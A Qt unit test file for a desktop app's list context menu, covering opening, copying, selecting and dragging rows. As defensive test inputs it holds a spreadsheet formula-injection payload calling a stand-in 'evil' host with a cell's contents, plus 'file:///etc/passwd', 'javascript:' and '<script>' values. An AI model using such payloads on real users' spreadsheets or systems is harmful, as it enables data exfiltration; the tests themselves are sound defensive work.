#include <QClipboard>
#include <QContextMenuEvent>
#include <QTextBrowser>

#include "clicks.h"
#include "filled_lists.h"
#include "platform/text_border.h"

using namespace Qt::Literals::StringLiterals;
using namespace quarrynet;

namespace {

QClipboard* clipboard()
{
    return QGuiApplication::clipboard();
}

/// Returns the address that Copy address and a drag give for a row of the tab's test page.
QString addressOf(const WindowFixture& window, const TabControls& tab, const ListView& list, std::size_t row)
{
    switch (tab.tag) {
    case 1:
        return QString::fromStdString(list.rows()[row][0]);
    case 4:
        return QString::fromStdString("http://127.0.0.1" + list.rows()[row][5].substr(16));
    case 5:
        return QString::fromStdString(list.rows()[row][1]);
    default:
        Q_UNUSED(window)
        return {};
    }
}

} // namespace

/// Tests the menu of the lists, and what the user opens, copies and drags out of them.
class ListMenuTest final : public QObject
{
    Q_OBJECT

private slots:
    void init()
    {
        window_ = std::make_unique<WindowFixture>();
        window_->start();
        clipboard()->clear();
    }
    void cleanup() { window_.reset(); }

    void theMenuOpensByEveryKeyAndTheRightButton_data() { addListRows(); }
    void theMenuOpensByEveryKeyAndTheRightButton()
    {
        ListView* list = filled();
        clickRow(*list, 1);
        const QRect row = list->visualRect(list->model()->index(1, 0));
        const QPoint below = list->viewport()->mapToGlobal(row.bottomLeft());

        QTest::keyClick(list, Qt::Key_Menu);
        QVERIFY(menuOf(*list));
        verifyPlace(*menuOf(*list), below);
        QTest::keyClick(menuOf(*list), Qt::Key_Escape);
        QTRY_VERIFY(!menuOf(*list));

        QTest::keyClick(list, Qt::Key_F10, Qt::ShiftModifier);
        QVERIFY(menuOf(*list));
        verifyPlace(*menuOf(*list), below);
        // A platform may send both the key and the event that it makes from it.
        QContextMenuEvent again(QContextMenuEvent::Keyboard, {}, {});
        QApplication::sendEvent(list, &again);
        QCOMPARE(list->findChildren<QMenu*>(u"ListMenu"_s).size(), 1);
        menuOf(*list)->close();
        QTRY_VERIFY(!menuOf(*list));

        QVERIFY(openMenu(*list, 0));
        QVERIFY(window_->boxes.boxes().isEmpty());
    }

    // The keys used to do nothing where the current row was scrolled out of sight.
    void theMenuKeyShowsTheCurrentRow()
    {
        ListView* list = fillList(*window_, tabOf(4));
        list->setCurrentIndex(list->model()->index(0, 0));
        list->scrollToBottom();
        QTest::keyClick(list, Qt::Key_Menu);
        QVERIFY(list->viewport()->rect().contains(list->visualRect(list->model()->index(0, 0))));
        QVERIFY(menuOf(*list));
    }

    void entriesWithoutAnythingToWorkWithAreDisabled_data() { addListRows(); }
    void entriesWithoutAnythingToWorkWithAreDisabled()
    {
        QFETCH(int, tag);
        window_->chooseTab(tag);
        ListView* list = listOf(*window_, tabOf(tag));
        QTest::keyClick(list, Qt::Key_Menu);
        QVERIFY(menuOf(*list));
        QCOMPARE(enabledEntries(menuOf(*list)), QStringList());
        menuOf(*list)->close();
        QTRY_VERIFY(!menuOf(*list));

        fillList(*window_, tabOf(tag));
        list->clearSelection();
        QStringList expected{u"ListFilter"_s, u"ListSort"_s, u"ListSave"_s};
        if (tag != 5) // its list has one row selected at most
            expected.prepend(u"ListSelectAll"_s);
        QTest::keyClick(list, Qt::Key_Menu);
        QCOMPARE(enabledEntries(menuOf(*list)), expected);
        menuOf(*list)->close();
        QTRY_VERIFY(!menuOf(*list));

        clickRow(*list, 0);
        // Rows of the page check lead nowhere, and a double click on them does nothing.
        expected = (tag == 2 ? QStringList{} : QStringList{u"ListOpen"_s, u"ListCopyAddress"_s}) +
                   QStringList{u"ListCopyRows"_s} + expected;
        QCOMPARE(enabledEntries(openMenu(*list, 0)), expected);
    }

    // A menu used to keep the entries of the moment in which it was opened.
    void theOpenMenuFollowsItsList_data() { addListRows(); }
    void theOpenMenuFollowsItsList()
    {
        QFETCH(int, tag);
        window_->chooseTab(tag);
        ListView* list = listOf(*window_, tabOf(tag));
        QTest::keyClick(list, Qt::Key_Menu);
        QMenu* menu = menuOf(*list);
        QVERIFY(menu);
        QCOMPARE(enabledEntries(menu), QStringList());

        const auto fill = [&](const char* cell) { list->setRows({{cell, cell, cell}, {cell, cell, cell}}); };
        fill("a");
        const QStringList filled = (tag == 5 ? QStringList{} : QStringList{u"ListSelectAll"_s}) +
                                   QStringList{u"ListFilter"_s, u"ListSort"_s, u"ListSave"_s};
        QCOMPARE(enabledEntries(menu), filled);
        list->setCurrentIndex(list->model()->index(0, 0));
        QVERIFY(entryOf(menu, "ListCopyRows")->isEnabled());
        QCOMPARE(entryOf(menu, "ListOpen")->isEnabled(), tag != 2);
        list->clearSelection();
        QCOMPARE(enabledEntries(menu), filled);

        // A page replaces the rows whose menu is open.
        list->setCurrentIndex(list->model()->index(0, 0));
        fill("b");
        QCOMPARE(enabledEntries(menu), filled);

        list->setCurrentIndex(list->model()->index(0, 0));
        list->setRows({});
        QCOMPARE(enabledEntries(menu), QStringList());
        QVERIFY(menu->isVisible());
    }

    // The submenu is another window, which stays when the entry that leads to it is disabled.
    void theOpenSubmenuFollowsItsList()
    {
        ListView* list = fillList(*window_, tabOf(1));
        list->sortRows(ListViewModel::Sorting{1, Qt::DescendingOrder});
        QMenu* menu = openMenu(*list, 0);
        auto* sorting = menu->findChild<QMenu*>(u"ListSort"_s);
        menu->setActiveAction(sorting->menuAction());
        QTRY_VERIFY(sorting->isVisible());
        const auto checked = [&] {
            QStringList texts;
            for (const QAction* action : sorting->actions()) {
                if (action->isChecked())
                    texts.append(action->text());
            }
            return texts;
        };
        QCOMPARE(checked(), QStringList{u"Short Description, descending"_s});
        list->setRows({{"a"}, {"b"}});
        QCOMPARE(checked(), QStringList{u"Order of the &page"_s});
        list->clear();
        QVERIFY(!sorting->isVisible());
        QVERIFY(!sorting->isEnabled());
    }

    void theRightButtonKeepsASelectionThatItIsPressedIn()
    {
        ListView* list = fillList(*window_, tabOf(1));
        clickRow(*list, 0);
        clickRow(*list, 2, Qt::ControlModifier);
        openMenu(*list, 2)->close();
        QTRY_VERIFY(!menuOf(*list));
        QCOMPARE(list->selectedRows(), (std::vector<std::size_t>{0, 2}));
        openMenu(*list, 1)->close();
        QCOMPARE(list->selectedRows(), std::vector<std::size_t>{1});
    }

    void openDoesWhatADoubleClickDoes()
    {
        for (const int tag : {1, 5}) {
            window_->shell.opened.clear();
            ListView* list = fillList(*window_, tabOf(tag));
            clickRow(*list, 1);
            doubleClick(list->viewport(), list->visualRect(list->model()->index(1, 0)).center());
            const std::vector<std::string> opened = window_->shell.opened;
            QCOMPARE(opened.size(), std::size_t(1));
            choose(openMenu(*list, 1), "ListOpen");
            QCOMPARE(window_->shell.opened, (std::vector<std::string>{opened[0], opened[0]}));
        }
    }

    void openResolvesTheLinkOfADownload()
    {
        ListView* list = fillList(*window_, tabOf(4));
        window_->service.stall();
        const qsizetype before = window_->service.requests().size();
        clickRow(*list, 0);
        choose(openMenu(*list, 0), "ListOpen");
        QTRY_COMPARE(window_->service.requests().size(), before + 1);
        QVERIFY(window_->service.lastRequestLine().startsWith("GET /"));
        window_->service.reset();
        QTRY_COMPARE(window_->boxes.boxes().size(), 1);
    }

    void copyAddressCopiesOneALine()
    {
        for (const int tag : {1, 4, 5}) {
            const TabControls& tab = tabOf(tag);
            ListView* list = fillList(*window_, tab);
            clickRow(*list, 1);
            QStringList expected{addressOf(*window_, tab, *list, 1)};
            if (tag != 5) {
                clickRow(*list, 2, Qt::ControlModifier);
                expected.append(addressOf(*window_, tab, *list, 2));
            }
            QVERIFY(expected[0].contains(u"://"_s));
            choose(openMenu(*list, 1), "ListCopyAddress");
            QCOMPARE(clipboard()->text(), expected.join(u'\n'));
        }
    }

    void theAddressOfADownloadIsThatOfItsLink()
    {
        ListView* list = fillList(*window_, tabOf(4));
        const std::string link = window_->control<HiddenListBox>("List10")->items()[0];
        clickRow(*list, 0);
        choose(openMenu(*list, 0), "ListCopyAddress");
        QVERIFY(link.starts_with("/redir?"));
        QCOMPARE(clipboard()->text(), u"http://127.0.0.1"_s + QString::fromStdString(link));
    }

    void copiedAddressesAreOneLineAndEncodedAsTheyAreOpened()
    {
        ListView* list = listOf(*window_, tabOf(1));
        list->setRows({{"http://host/a b\"c", ""}, {"javascript:x\r\ny", ""}, {std::string("http://h\0st/", 12), ""}});
        list->selectAll();
        list->copyAddresses();
        QCOMPARE(clipboard()->text(), u"http://host/a%20b%22c\njavascript:x  y\nhttp://h st/"_s);
    }

    // An address that is not opened may be any text, which a spreadsheet would run as a formula.
    void formulasLeaveAsTexts()
    {
        for (const int tag : {1, 4, 5}) {
            const TabControls& tab = tabOf(tag);
            window_->chooseTab(tag);
            ListView* list = listOf(*window_, tab);
            const std::string formula = R"(=HYPERLINK("http://evil/"&A1))";
            list->setRows({{formula, formula, formula, formula, formula, formula}, {}});
            const QString expected = u'\'' + QString::fromStdString(formula);
            list->setCurrentIndex(list->model()->index(0, 0));
            list->copyAddresses();
            QCOMPARE(clipboard()->text(), expected);
            const std::unique_ptr<QMimeData> data(list->model()->mimeData({list->model()->index(0, 0)}));
            QCOMPARE(data->text(), expected);
            QVERIFY(!data->hasUrls());
        }
    }

    void copyRowsCopiesTextAndATable_data() { addListRows(); }
    void copyRowsCopiesTextAndATable()
    {
        QFETCH(int, tag);
        ListView* list = filled();
        const QStringList rows = window_->rows(tabOf(tag).list);
        clickRow(*list, 1);
        choose(openMenu(*list, 1), "ListCopyRows");
        const QString expected = QString(rows[1]).replace(u'|', u'\t');
        QCOMPARE(clipboard()->text(), expected);
        QVERIFY(clipboard()->mimeData()->html().contains(u"<td dir=\"auto\">"_s));

        clipboard()->clear();
        QTest::keyClick(list, Qt::Key_C, Qt::ControlModifier);
        QCOMPARE(clipboard()->text(), expected);
    }

    void theTableOfCopiedRowsIsEscaped()
    {
        ListView* list = listOf(*window_, tabOf(1));
        list->setRows({{"<b>http://host/", "<script>"}});
        list->selectAll();
        list->copyRows();
        QVERIFY(clipboard()->mimeData()->html().contains(u"&lt;script&gt;"_s));
        QVERIFY(!clipboard()->mimeData()->html().contains(u"<script"_s));
        QCOMPARE(clipboard()->text(), u"<b>http://host/\t<script>"_s);
    }

    void selectAllSelectsTheRows()
    {
        for (const int tag : {1, 2, 4}) {
            ListView* list = fillList(*window_, tabOf(tag));
            choose(openMenu(*list, 0), "ListSelectAll");
            QCOMPARE(list->selectedRows().size(), list->rows().size());
            list->clearSelection();
            QTest::keyClick(list, Qt::Key_A, Qt::ControlModifier);
            QCOMPARE(list->selectedRows().size(), list->rows().size());
        }
    }

    void theGalleryHasNoMenu()
    {
        window_->chooseTab(3);
        auto* viewer = window_->control<QWidget>("IMGViewer");
        QTRY_VERIFY(viewer->findChild<QTextBrowser*>());
        auto* view = viewer->findChild<QTextBrowser*>();
        view->setFocus();
        const auto hasNoMenu = [] {
            for (const QWidget* window : QApplication::topLevelWidgets()) {
                if (window->isVisible() && window->inherits("QMenu"))
                    return false;
            }
            return !QApplication::activePopupWidget();
        };
        QTest::keyClick(view, Qt::Key_Menu);
        QVERIFY(hasNoMenu());
        QTest::keyClick(view, Qt::Key_F10, Qt::ShiftModifier);
        QVERIFY(hasNoMenu());
        const QPoint at = view->viewport()->rect().center();
        QTest::mouseClick(view->viewport(), Qt::RightButton, {}, at);
        QVERIFY(hasNoMenu());
        // The platform makes this event from the key and the button.
        for (const auto reason : {QContextMenuEvent::Keyboard, QContextMenuEvent::Mouse}) {
            for (QWidget* place : {static_cast<QWidget*>(view), view->viewport(), viewer}) {
                QContextMenuEvent wanted(reason, at, place->mapToGlobal(at));
                QApplication::sendEvent(place, &wanted);
                QVERIFY(hasNoMenu());
            }
        }
    }

    void draggedRowsAreAddresses_data() { addListRows(); }
    void draggedRowsAreAddresses()
    {
        QFETCH(int, tag);
        const TabControls& tab = tabOf(tag);
        ListView* list = filled();
        QModelIndexList indexes;
        QStringList expected;
        for (const int row : {2, 0}) {
            for (int column = 0; column < list->model()->columnCount(); ++column)
                indexes.append(list->model()->index(row, column));
        }
        for (const std::size_t row : {0U, 2U})
            expected.append(addressOf(*window_, tab, *list, row));
        const std::unique_ptr<QMimeData> data(list->model()->mimeData(indexes));
        if (tag == 2) { // its rows have no address
            QVERIFY(!data);
            QVERIFY(!list->model()->flags(indexes[0]).testFlag(Qt::ItemIsDragEnabled));
            return;
        }
        QVERIFY(list->model()->flags(indexes[0]).testFlag(Qt::ItemIsDragEnabled));
        QCOMPARE(data->text(), expected.join(u'\n'));
        QCOMPARE(data->data(u"text/uri-list"_s), (expected.join(u"\r\n"_s) + u"\r\n"_s).toUtf8());
    }

    void rowsThatMayNotBeOpenedAreNoLinksInADrag()
    {
        ListView* list = listOf(*window_, tabOf(1));
        // The last ones used to be asked for as they are shown: as one line, and cut.
        const std::string tooLong = "http://host/" + std::string(65'536, 'x');
        list->setRows({{"file:///etc/passwd"}, {"javascript:x"}, {"http://host/a\nb"}, {tooLong}});
        QModelIndexList indexes;
        for (int row = 0; row < list->model()->rowCount(); ++row)
            indexes.append(list->model()->index(row, 0));
        const std::unique_ptr<QMimeData> data(list->model()->mimeData(indexes));
        QVERIFY(!data->hasFormat(u"text/uri-list"_s));
        QCOMPARE(data->text(),
                 u"file:///etc/passwd\njavascript:x\nhttp://host/a b\n"_s + toLine(std::string_view(tooLong)));
    }

    // Where the mouse goes down decides: on a selected row it drags, on another one it selects as it always did.
    void onlySelectedRowsAreDragged()
    {
        ListView* list = fillList(*window_, tabOf(1));
        const auto place = [&](int row) { return list->visualRect(list->model()->index(row, 0)).center(); };
        QTest::mousePress(list->viewport(), Qt::LeftButton, {}, place(0));
        QVERIFY(!list->dragEnabled());
        QTest::mouseRelease(list->viewport(), Qt::LeftButton, {}, place(0));
        clickRow(*list, 1, Qt::ControlModifier);
        QTest::mousePress(list->viewport(), Qt::LeftButton, {}, place(0));
        QVERIFY(list->dragEnabled());
        QCOMPARE(list->selectedRows(), (std::vector<std::size_t>{0, 1}));
        QTest::mouseRelease(list->viewport(), Qt::LeftButton, {}, place(0));
        QCOMPARE(list->selectedRows(), std::vector<std::size_t>{0});
    }

private:
    // Verifies that the menu begins at this place of the screen, if it has room there.
    static void verifyPlace(const QMenu& menu, QPoint place)
    {
        if (menu.screen()->availableGeometry().contains(QRect(place, menu.size())))
            QCOMPARE(menu.pos(), place);
    }

    ListView* filled()
    {
        QFETCH(int, tag);
        return fillList(*window_, tabOf(tag));
    }

    std::unique_ptr<WindowFixture> window_;
};

QTEST_MAIN(ListMenuTest)
#include "list_menu_test.moc"
